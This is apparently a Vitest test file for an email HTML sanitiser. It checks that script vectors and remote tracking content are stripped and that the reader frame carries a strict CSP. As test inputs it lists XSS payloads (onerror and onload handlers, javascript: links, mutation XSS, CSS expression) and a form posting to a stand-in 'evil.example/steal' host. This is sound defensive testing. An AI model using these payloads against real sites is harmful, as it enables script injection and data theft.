// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { buildSrcDoc, createMailSanitizer, readerCsp } from './sanitize-html.ts'

const sanitize = createMailSanitizer(window)
const blockedOnly = (html: string) => sanitize(html, { allowRemote: false })

describe('mail sanitiser: script execution vectors', () => {
  it.each([
    ['script tag', '<p>hi</p><script>alert(1)</script>', /<script/i],
    ['script inside svg', '<svg><script>alert(1)</script></svg>', /<script|<svg/i],
    ['svg onload', '<svg onload="alert(1)"><circle r="4"/></svg>', /onload|<svg/i],
    ['img onerror', '<img src="x" onerror="alert(1)">', /onerror/i],
    ['body onload', '<body onload="alert(1)"><p>x</p></body>', /onload/i],
    ['javascript: link', '<a href="javascript:alert(1)">x</a>', /javascript:/i],
    ['entity-encoded javascript: link', '<a href="jav&#x09;ascript:alert(1)">x</a>', /href/i],
    ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', /vbscript/i],
    ['data:text/html link', '<a href="data:text/html,<script>alert(1)</script>">x</a>', /href/i],
    ['iframe', '<iframe src="https://evil.example/"></iframe>', /<iframe/i],
    ['object/embed', '<object data="x.swf"></object><embed src="x.swf">', /<object|<embed/i],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">', /<meta|refresh/i],
    ['base href', '<base href="https://evil.example/"><a href="/x">x</a>', /<base|evil/i],
    [
      'form action',
      '<form action="https://evil.example/steal"><input name=p></form>',
      /<form|<input|action/i,
    ],
    ['button formaction', '<button formaction="https://evil.example/">x</button>', /formaction|<button/i],
    [
      'math/mglyph mutation XSS',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      /onerror/i,
    ],
    ['css expression', '<div style="width: expression(alert(1))">x</div>', /expression/i],
    [
      'css -moz-binding',
      '<div style="-moz-binding:url(http://evil.example/x.xml#x)">x</div>',
      /binding|evil/i,
    ],
  ])('%s is neutralised', (_name, input, forbidden) => {
    const { html } = blockedOnly(input)
    expect(html).not.toMatch(forbidden)
  })

  it('keeps ordinary formatting and safe links, opening them in a new tab without referrer', () => {
    const { html, blockedRemote } = blockedOnly(
      '<h1>Hello</h1><p style="color:red"><b>bold</b> <a href="https://example.net/page">link</a></p>',
    )
    expect(html).toContain('<h1>Hello</h1>')
    expect(html).toContain('style="color:red"')
    expect(html).toContain('href="https://example.net/page"')
    expect(html).toContain('target="_blank"')
    expect(html).toContain('rel="noopener noreferrer"')
    expect(blockedRemote).toBe(0)
  })
})

describe('mail sanitiser: remote content is blocked by default', () => {
  it.each([
    ['img src', '<img src="https://tracker.example/p.gif">', /tracker/],
    [
      'img srcset',
      '<img srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x">',
      /tracker/,
    ],
    [
      'table background',
      '<table background="http://tracker.example/bg.png"><tr><td>x</td></tr></table>',
      /tracker/,
    ],
    [
      'css url() in style attribute',
      '<div style="background:url(https://tracker.example/bg)">x</div>',
      /tracker/,
    ],
    [
      'css url() with quotes',
      `<div style="background-image:url('https://tracker.example/q')">x</div>`,
      /tracker/,
    ],
    ['css escaped url()', '<div style="background:u\\72l(https://tracker.example/esc)">x</div>', /tracker/],
    [
      'css image-set()',
      '<div style="background:image-set(\'https://tracker.example/s\' 1x)">x</div>',
      /tracker/,
    ],
    [
      'css @import in <style>',
      '<style>@import url("https://tracker.example/x.css");p{color:red}</style><p>x</p>',
      /tracker|@import/,
    ],
    [
      'css @import string',
      "<style>@import 'https://tracker.example/y.css';</style><p>x</p>",
      /tracker|@import/,
    ],
    [
      'css url() in <style>',
      '<style>p{background:url(https://tracker.example/z)}</style><p>x</p>',
      /tracker/,
    ],
    [
      '@font-face src',
      '<style>@font-face{font-family:x;src:url(https://tracker.example/f.woff)}</style>',
      /tracker/,
    ],
    [
      '<link rel=stylesheet>',
      '<link rel="stylesheet" href="https://tracker.example/s.css"><p>x</p>',
      /tracker|<link/,
    ],
    [
      'svg feImage',
      '<svg><filter><feImage href="https://tracker.example/fe"/></filter></svg>',
      /tracker|feimage/i,
    ],
    ['svg image xlink:href', '<svg><image xlink:href="https://tracker.example/i.png"/></svg>', /tracker/],
    ['svg use href', '<svg><use href="https://tracker.example/u.svg#a"/></svg>', /tracker/],
    ['video poster', '<video poster="https://tracker.example/poster.png"></video>', /tracker/],
    ['audio source', '<audio><source src="https://tracker.example/a.mp3"></audio>', /tracker/],
    ['input type=image', '<input type="image" src="https://tracker.example/in.png">', /tracker/],
  ])('%s', (_name, input, forbidden) => {
    const { html } = blockedOnly(input)
    expect(html).not.toMatch(forbidden)
  })

  it('counts what it blocked so the reader can offer "Load remote content"', () => {
    const { blockedRemote } = blockedOnly(
      '<img src="https://a.example/1.png"><div style="background:url(https://a.example/2)"></div>',
    )
    expect(blockedRemote).toBe(2)
  })

  it('keeps remote images once the user allows them, but never @import or <link>', () => {
    const { html } = sanitize(
      '<img src="https://img.example/photo.jpg"><style>@import url(https://x.example/a.css);</style><link rel=stylesheet href="https://x.example/b.css">',
      { allowRemote: true },
    )
    expect(html).toContain('src="https://img.example/photo.jpg"')
    expect(html).not.toMatch(/x\.example/)
  })

  it('resolves cid: references to inline resources and drops unknown ones', () => {
    const { html } = blockedOnly('<img src="cid:abc" alt="a"><img src="cid:missing" alt="b">')
    expect(html).not.toContain('cid:')
    const resolved = sanitize('<img src="cid:abc">', {
      allowRemote: false,
      resolveCid: (cid) => (cid === 'abc' ? 'data:image/png;base64,AAAA' : undefined),
    })
    expect(resolved.html).toContain('src="data:image/png;base64,AAAA"')
  })

  it('keeps data: images but never data: SVG (script-capable)', () => {
    expect(blockedOnly('<img src="data:image/png;base64,AAAA">').html).toContain('data:image/png')
    expect(blockedOnly('<img src="data:image/svg+xml;base64,PHN2Zz4=">').html).not.toContain('svg')
  })
})

describe('reader frame document', () => {
  it('carries a CSP that allows no script, no remote image and no form target by default', () => {
    const doc = buildSrcDoc('<p>x</p>', { allowRemote: false })
    expect(doc).toContain(`content="${readerCsp(false)}"`)
    expect(readerCsp(false)).toContain("default-src 'none'")
    expect(readerCsp(false)).toContain('img-src data: cid:')
    expect(readerCsp(false)).not.toMatch(/https?:/)
    expect(readerCsp(false)).not.toContain('script-src')
    expect(readerCsp(true)).toContain('https:')
  })
})

describe('mail sanitiser keeps what mail needs', () => {
  it('keeps ordinary <style> rules, tables and inline colours', () => {
    const { html, blockedRemote } = blockedOnly(
      '<style>.x{color:#333;font-weight:bold}</style><table><tr><td class="x" style="padding:4px">cell</td></tr></table>',
    )
    expect(html).toContain('.x{color:#333;font-weight:bold}')
    expect(html).toContain('<td class="x" style="padding:4px">cell</td>')
    expect(blockedRemote).toBe(0)
  })
})
